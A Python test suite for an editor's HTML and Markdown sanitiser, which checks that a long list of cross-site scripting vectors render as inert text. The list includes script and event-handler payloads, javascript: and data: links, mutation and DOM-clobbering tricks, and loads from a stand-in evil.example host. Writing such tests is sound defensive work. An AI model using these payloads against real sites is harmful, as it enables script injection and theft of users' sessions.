"""No text, whatever it says, becomes a script, a frame, a style or a name of the page's own."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from editor.render.pipeline import Link
from editor.render.safety import ATTRIBUTES, CLASSES, TAGS, VALUES, sanitise
from tests.unit.render.reading import PHOTO, Page, shown

HTML_VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    '<img srcset="javascript:alert(1) 1x" src=y>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=javascript:alert(1)><td>x</table>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=x ping=//evil.example/>x</a>",
    "<a target=_blank href=//evil.example onclick=alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<?php echo 1 ?>",
    "<x onclick=alert(1)>x</x>",
    "<p id=document name=location>x</p>",
    "<a id=defaultView name=body href=x>x</a>",
    "<img name=getElementById src=x>",
    "<p data-line=1 data-x=2 is=x slot=y contenteditable>x</p>",
    "<p class='app-root admin'>x</p>",
    "<dialog open>x</dialog><portal src=x></portal>",
    "</p></div></article><script>alert(1)</script>",
    "<h1>x</h1><title>x</title>",
    "<b><p></b></p><i><table><tr><td></i>x",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
)

MARKDOWN_VECTORS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](jav\\ascript:alert(1))",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example "\\"><script>alert(1)</script>")',
    '[x](https://a.example"onclick="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x][1]\n\n[1]: https://a.example "\\"><img src=x onerror=alert(1)>"',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<javascript:alert(1)@x>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](photo:7)',
    '![x](photo:7" onerror="alert(1))',
    "![<script>alert(1)</script>](photo:7)",
    "!embed[<script>alert(1)</script>](https://a.example)",
    "!embed[x](javascript:alert(1))",
    '!embed[x](https://a.example"onclick="alert(1))',
    '[x](article:5 "onclick")',
    "[](article:javascript:alert(1))",
    "x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: y",
    "x[^location]\n\n[^location]: [y](javascript:alert(1))",
    "/// fact | <script>alert(1)</script>\n<img src=x onerror=alert(1)>\n///",
    "/// fact | x\n    attrs: {onclick: 'alert(1)', id: location}\n\ny\n///",
    "/// html | script\nalert(1)\n///",
    "## <img src=x onerror=alert(1)>",
    "## x {#location onclick=alert(1)}",
    "x\n{: onclick=alert(1) }",
    "| <script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <b onclick=alert(1)> | y |",
    "> <script>alert(1)</script>\n> — <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "*<script>*alert(1)*</script>*",
    "[<script>alert(1)</script>](https://a.example)",
    "[x](https://a.example)<!-- --><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x02klzzwxh:0000\x03<script>",
    "\\<script\\>alert(1)\\</script\\>",
    '<a@b.c" onclick="alert(1)>',
)

VECTORS = HTML_VECTORS + MARKDOWN_VECTORS
SAFE_SCHEMES = (None, "http", "https", "mailto", "tel")


def scheme(address: str | None) -> str | None:
    """The scheme that a browser would see, which forgives white space and control characters."""
    found = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", address or "").lower())
    return found[1] if found else None


def assert_harmless(html: str) -> None:
    """Only known tags with known attributes of known shapes, and addresses that open pages."""
    for tag, attributes in Page(html).tags:
        assert tag in TAGS, tag
        for name, value in attributes.items():
            if name == "class":
                assert set((value or "").split()) <= CLASSES[tag]
                continue
            assert name == "data-line" or name in ATTRIBUTES[tag], (tag, name)
            assert name not in VALUES or VALUES[name].fullmatch(value or ""), (tag, name, value)
            if name in {"href", "src"}:
                assert scheme(value) in SAFE_SCHEMES, value


@pytest.mark.parametrize("vector", VECTORS)
def test_hostile_text_stays_text(vector: str) -> None:
    for body in (vector, f"слова {vector} слова", f"- {vector}", f"> {vector}", f"## {vector}", f"**{vector}**"):
        for preview in (False, True):
            assert_harmless(shown(body, preview=preview).html)


@pytest.mark.parametrize("vector", VECTORS)
def test_the_sanitiser_alone_stops_it_too(vector: str) -> None:
    clean = sanitise(vector, preview=False)
    assert_harmless(clean)
    assert sanitise(clean, preview=False) == clean


@pytest.mark.parametrize("vector", VECTORS)
def test_hostile_captions_and_addresses_stay_what_they_are(vector: str) -> None:
    photo = replace(PHOTO, src=vector, srcset=f"{vector} 480w", sizes=vector, alt=vector, caption=vector, credit=vector)
    body = "![](photo:7)\n\n[](article:5)"
    assert_harmless(shown(body, figures={7: photo}, links={5: Link(vector, vector)}).html)


@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_no_word_of_it_is_lost(vector: str) -> None:
    wanted = re.sub(r"[\s\x00-\x1f]|&\S*?;|[\"'«»“”„`*]|-+|—|\\", "", vector)
    found = re.sub(
        r"[\s\x00-\x1f]|[\"'«»“”„`*]|-+|—|–|\\", "", Page(shown(f"`` {vector} ``".replace("\n", " ")).html).text
    )
    assert re.sub(r"&\S*?;", "", found) == wanted


def test_ids_can_not_shadow_names_of_the_page() -> None:
    words = ("location", "document", "body", "forms", "getElementById", "name", "cookie", "__proto__", "attributes")
    body = "".join(f"## {word}\n\nx[^{word}]\n\n[^{word}]: y\n\n" for word in words)
    ids = [given["id"] for _, given in Page(shown(body).html).tags if "id" in given]
    assert len(ids) == 3 * len(words) == len(set(ids))
    assert all(re.match(r"h-|fn-\d|fnref-\d", name or "") for name in ids)


def test_marks_of_the_preview_are_not_taken_from_a_text() -> None:
    assert sanitise('<p data-line="3">x</p>', preview=False) == "<p>x</p>"
    assert sanitise('<p data-line="x">x</p>', preview=True) == "<p>x</p>"
    assert sanitise('<p data-line="3">x</p>', preview=True) == '<p data-line="3">x</p>'


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from("<>&;\"'`()[]!*_#-|/:=\\\n\x02\x03^ axhrefonclik.jvspt17"), max_size=120))
def test_no_heap_of_signs_does_harm(body: str) -> None:
    found = shown(body, preview=True).html
    assert_harmless(found)
    assert sanitise(found, preview=True) == found


@settings(deadline=None)
@given(st.text(max_size=200))
def test_any_text_renders_and_its_html_is_stable(body: str) -> None:
    found = shown(body).html
    assert_harmless(found)
    assert sanitise(found, preview=False) == found
    assert shown(body).html == found
